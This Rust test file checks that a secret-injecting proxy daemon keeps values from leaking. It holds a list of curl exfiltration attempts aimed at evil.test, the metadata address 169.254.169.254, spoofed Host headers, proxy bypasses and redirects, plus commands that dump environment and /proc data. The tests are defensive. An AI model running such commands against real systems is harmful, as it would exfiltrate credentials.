//! What a program under `skep run` could do to get at a value, all of it through the real daemon: none comes
//! back, and none goes anywhere but where the template says.

use serde_json::{Value, json};

use super::world::{World, said, template};
use crate::values::{PLAIN, VALUE};

/// A request of curl's, as the shell has it. What it says back is looked through; what arrives too.
const TRIES: &[&str] = &[
    // Out of place.
    r#""https://api.test/echo?key=$KEY""#,
    r#""https://api.test/$KEY/echo""#,
    r#""https://api.test/echo?key=%5f%5Fskep%5fkey%5F%5f""#,
    r#"-H "Cookie: a=$KEY" https://api.test/echo"#,
    r#"-H "$KEY: 1" https://api.test/echo"#,
    r#"-H "Authorization: Bearer __SKEP_KEY__" https://api.test/echo"#,
    r#"-H "Authorization: Bearer __skep_nothing__" https://api.test/echo"#,
    r#"-d "$KEY" https://api.test/echo"#,
    r#"-F "file=$KEY" https://api.test/echo"#,
    r#"-H "Transfer-Encoding: chunked" -d "a $KEY" https://api.test/echo"#,
    r#"-X TRACE -H "Authorization: $KEY" https://api.test/echo"#,
    // To somebody else.
    r#"-H "Authorization: $KEY" https://other.test/echo"#,
    r#"-H "Authorization: $OTHER" https://api.test/echo"#,
    r#"-H "Authorization: $KEY" https://evil.test/echo"#,
    r#"-u "user:$OTHER" https://api.test/echo"#,
    r#"-H "Authorization: $KEY" -H "Host: evil.test" https://api.test/echo"#,
    r#"-H "Authorization: $KEY" http://api.test/echo"#,
    r#"-H "Authorization: $KEY" https://wild.test/echo"#,
    r#"-H "Authorization: $KEY" --connect-to api.test:443:evil.test:443 https://api.test/echo"#,
    r#"-H "Authorization: $KEY" https://api.test:8443/echo"#,
    r#"-H "Authorization: $KEY" https://127.0.0.1/echo"#,
    r#"-H "Authorization: $KEY" https://169.254.169.254/latest"#,
    r#"-H "Authorization: $KEY" https://localhost/echo"#,
    r#"-L --location-trusted -H "Authorization: $KEY" https://api.test/redirect-away"#,
    // Said back by the origin, in each way that it has.
    r#"-H "Authorization: Bearer $KEY" https://api.test/echo"#,
    r#"-H "Authorization: Bearer $KEY" https://api.test/echo-chunked"#,
    r#"-H "Authorization: Bearer $KEY" https://api.test/echo-big"#,
    r#"-H "Authorization: Bearer $KEY" -D - https://api.test/echo-header"#,
    r#"-H "Authorization: Bearer $KEY" -D - https://api.test/echo-error"#,
    r#"-H "Authorization: Bearer $KEY" -D - --raw https://api.test/echo-trailers"#,
    r#"-H "Authorization: Bearer $KEY" --compressed https://api.test/packed/gzip"#,
    r#"-H "Authorization: Bearer $KEY" -r 0-9 https://api.test/echo"#,
    r#"-H "Authorization: Bearer $KEY" --http2 https://api.test/echo-chunked"#,
    r#"-H "Authorization: Bearer $KEY" -H "Upgrade: websocket" -H "Connection: Upgrade" -m 2 https://api.test/ws"#,
    r#"-u "user:$KEY" https://api.test/echo"#,
    // Later, without a placeholder, from the same origin and from others.
    r"https://api.test/echo-last",
    r#"-H "Authorization: $OTHER" https://other.test/echo-last"#,
    // The proxy itself.
    r#"--noproxy '*' "$HTTPS_PROXY/echo""#,
    r#"--noproxy '*' "${HTTPS_PROXY#*@}/0123456789abcdef/api/echo""#,
    r#"-x "http://skep:0123456789abcdef@${HTTPS_PROXY#*@}" https://api.test/echo"#,
    r#"--noproxy '*' -H "Host: rebound.example" "$API_URL/echo""#,
    r#"--noproxy '*' "$API_URL/echo?k=$OTHER""#,
    r#"--noproxy '*' -H "Cookie: $KEY" "$API_URL/echo""#,
];

#[tokio::test(flavor = "multi_thread")]
async fn x01_x03_x04_nothing_that_a_program_tries_recovers_a_value() {
    let world = World::start().await;
    let mut script = String::new();
    for (nth, attempt) in TRIES.iter().enumerate() {
        // What was said is asserted to have no value by whoever runs it, whole.
        script.push_str(&format!("echo; echo '#{nth}'; curl -sS -m 10 {attempt}\n"));
    }
    script.push_str(
        "echo '#end'; env; cat /proc/$$/environ /proc/$PPID/cmdline; ls -la $SSL_CERT_FILE\n",
    );
    let arguments = ["run", "--base", "api:API_URL", "--", "sh", "-c", &script];
    let ran = world.skep(&arguments).await;
    let said = said(&ran);
    assert!(said.contains("#end"), "{said}");
    let mut uses = 0;
    for got in world.origin.got() {
        let text = format!("{got:?}");
        let to = got.host.split(':').next().unwrap();
        if text.contains(PLAIN) {
            assert_eq!(to, "other.test", "{text}");
        }
        let raw = got.header("authorization").to_owned();
        let holds = raw.contains(VALUE) || raw.starts_with("Basic ");
        uses += usize::from(holds || text.contains(PLAIN));
        if holds {
            assert!(to == "api.test" || to.ends_with(".wild.test"), "{text}");
        }
        let elsewhere = format!("{} {}", got.line, got.body);
        assert!(
            !elsewhere.contains(VALUE) && !elsewhere.contains(PLAIN),
            "{text}"
        );
    }
    assert!(uses >= 10, "the origin did get it where it may: {uses}");
}

#[tokio::test(flavor = "multi_thread")]
async fn x01_no_answer_about_leases_and_no_file_holds_a_value() {
    let world = World::start().await;
    let token = world.owner.token("owner");
    let begun = world
        .done(&token, "POST", "leases", json!({ "certificates": true }))
        .await;
    let text = begun.to_string();
    assert!(
        text.contains("__skep_key__") && !text.contains("PRIVATE KEY"),
        "{text}"
    );
    assert!(
        begun["certificates"]
            .as_str()
            .unwrap()
            .contains("BEGIN CERTIFICATE")
    );
    world.done(&token, "GET", "leases", Value::Null).await;
    for path in ["leases", "secrets", "settings", "templates"] {
        let (_, answer) = world.ask(&token, "GET", path, Value::Null).await;
        let text = answer.to_string();
        assert!(
            !text.contains("wire-authority") && !text.contains("PRIVATE"),
            "{text}"
        );
    }
    // The authority's key is in no file as it is, and the bundle says nothing of it.
    let mut folders = vec![world.home.clone()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                folders.push(entry.path());
            } else if entry.file_type().unwrap().is_file() {
                let bytes = std::fs::read(entry.path()).unwrap();
                let has = |needle: &[u8]| bytes.windows(needle.len()).any(|part| part == needle);
                assert!(
                    !has(b"PRIVATE KEY") && !has(VALUE.as_bytes()),
                    "{:?}",
                    entry.path()
                );
            }
        }
    }
}

/// It would say it in a code that nobody looks for.
#[tokio::test(flavor = "multi_thread")]
async fn x03_the_origin_of_trials_is_sent_no_secret_but_the_canary() {
    let world = World::bare(None).await;
    world.set_up(&world.owner.token("owner")).await;
    let mut draft = template("trial");
    let requests = &mut draft["form"]["requests"];
    requests["rules"][0]["hosts"] = json!(["*.skep.invalid", "trial.skep.invalid"]);
    requests["bases"] = json!([]);
    world.approved(&world.owner, draft).await;
    let call =
        r#"curl -sS -H "Authorization: Bearer $KEY" https://trial.skep.invalid/say/rot13/body"#;
    let said = said(&world.sh(call).await);
    assert!(said.contains("no secret but skep-verify-canary"), "{said}");
    // Nor another one by the canary's name, whether kept here or elsewhere.
    let token = world.owner.token("owner");
    for what in [
        json!({ "value": "ghp_0123456789abcdefABCDEF0123456789" }),
        json!({ "reference": "env://PATH" }),
    ] {
        let mut secret = what.clone();
        secret["name"] = json!("Skep-Verify-Canary");
        let (status, answer) = world.ask(&token, "POST", "secrets", secret).await;
        assert_eq!(status, 400, "{what}: {answer}");
        assert!(
            answer.to_string().contains("call this secret otherwise"),
            "{answer}"
        );
    }
}
